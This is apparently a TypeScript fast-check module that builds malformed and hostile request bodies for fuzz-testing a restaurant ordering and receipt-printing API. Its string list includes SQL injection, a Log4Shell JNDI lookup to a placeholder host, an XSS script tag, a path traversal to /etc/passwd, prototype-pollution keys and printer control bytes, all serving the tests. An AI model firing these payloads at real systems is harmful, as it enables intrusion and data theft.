import fc from 'fast-check';

/** Text that breaks line protocols, printers, parsers and SQL built by hand. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\0',
    'a\0b',
    '\r\n',
    'x\r\n\r\ndata: {"id":1}\r\n\r\n',
    'x\n\nevent: order-cancelled\ndata: {}\n\n',
    '\u2028\u2029\u0085',
    '\ud800',
    '\udfff\ud800',
    '\ufeff\ufffe',
    '\u202e\u2066evil\u2069',
    '\u001b@\u001dV\u0000\u001bp\u0000',
    "'; DROP TABLE orders; --",
    '" OR 1=1 --',
    '%27%00%0d%0a',
    '${jndi:ldap://192.0.2.1/a}',
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'NaN',
    'null',
    '-0',
    '1e309',
    'Ｐizza ﷽ 👩‍👩‍👧‍👦',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.integer({ min: 100, max: 30_000 }).map((length) => 'ﷺ'.repeat(length)),
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    0,
    -0,
    -1,
    0.001,
    1.005,
    1e-300,
    1e15,
    1e21,
    2 ** 31,
    2 ** 32,
    2 ** 53,
    2 ** 63,
    Number.MAX_VALUE,
    -Number.MAX_VALUE,
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value, with a taste for what goes wrong. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  hostileNumber,
  fc.constantFrom(
    null,
    true,
    false,
    [],
    {},
    [[]],
    [null],
    { length: 1 },
    { toString: 1 },
    { valueOf: null },
    { $gt: '' },
  ),
  fc.jsonValue({ maxDepth: 3 }),
);

export type Known = {
  readonly foods: readonly string[];
  readonly register: string;
  readonly category: string;
  readonly printer: string;
  readonly orders: readonly number[];
};

/** A good value most of the time, so that the bad one beside it is reached. */
const mostly = <T>(good: fc.Arbitrary<T>): fc.Arbitrary<unknown> =>
  fc.oneof<fc.MaybeWeightedArbitrary<unknown>[]>(
    { arbitrary: good, weight: 12 },
    { arbitrary: hostileValue, weight: 1 },
  );

const lineOf = ({ foods }: Known): fc.Arbitrary<unknown> =>
  fc.record(
    {
      foodId: mostly(fc.constantFrom(...foods)),
      quantity: mostly(fc.integer({ min: 1, max: 5 })),
      notes: mostly(hostileText),
      surcharge: mostly(fc.constantFrom(0, 0.5, -0.5)),
    },
    { requiredKeys: ['foodId', 'quantity'] },
  );

const paymentOf = ({ register }: Known): fc.Arbitrary<unknown> =>
  fc.record(
    {
      paymentMethod: mostly(fc.constantFrom('CASH', 'CARD')),
      cashRegisterId: mostly(fc.constant(register)),
      discount: mostly(fc.constantFrom(0, 1, 1000)),
      customer: mostly(hostileText),
    },
    { requiredKeys: ['paymentMethod', 'cashRegisterId'] },
  );

/** Bodies by what they are for, nearly right. */
export const bodyValues = (known: Known) => {
  const lines = fc.array(lineOf(known), { minLength: 1, maxLength: 4 });
  const order = { table: mostly(hostileText), customer: mostly(hostileText), orderItems: mostly(lines) };
  return {
    order: fc.record(order, { requiredKeys: ['orderItems'] }),
    sale: fc.record({ ...order, confirm: mostly(paymentOf(known)) }),
    payment: paymentOf(known),
    status: fc.record({
      status: mostly(fc.constantFrom('PENDING', 'CONFIRMED', 'COMPLETED', 'PICKED_UP', 'CANCELLED')),
    }),
    reprint: fc.record({
      orderItems: mostly(fc.array(hostileText, { maxLength: 3 })),
      reprintReceipt: mostly(fc.boolean()),
    }),
    food: fc.record({
      name: hostileText,
      price: mostly(fc.constant(1)),
      categoryId: mostly(fc.constant(known.category)),
      printerId: mostly(fc.constant(known.printer)),
    }),
    category: fc.record({ name: hostileText, position: mostly(fc.nat(9)), available: mostly(fc.boolean()) }),
    printer: fc.record({ name: hostileText, ip: mostly(fc.constant('192.0.2.7')), port: mostly(fc.nat(65_535)) }),
    availability: fc.record({ available: mostly(fc.boolean()), printerId: mostly(fc.constant(known.printer)) }),
    printerState: fc.record({
      status: mostly(fc.constantFrom('ONLINE', 'OFFLINE', 'ERROR')),
      detail: mostly(hostileText),
    }),
    login: fc.record({ username: hostileText, password: mostly(fc.constant('not-this-one')) }),
    ticket: fc.record({ ticket: hostileValue }),
    // Not the time zone's good values: they would move the business day under the tills.
    settings: fc.record({
      venueName: mostly(hostileText),
      language: hostileValue,
      timeZone: hostileValue,
      dayCutoff: hostileValue,
    }),
    jobs: fc.record({ jobs: hostileValue }),
    paper: fc.record({
      printerId: mostly(fc.constant(known.printer)),
      text: mostly(hostileText),
      svg: mostly(hostileText),
    }),
    anything: hostileValue,
  };
};
export type BodyKind = keyof ReturnType<typeof bodyValues>;
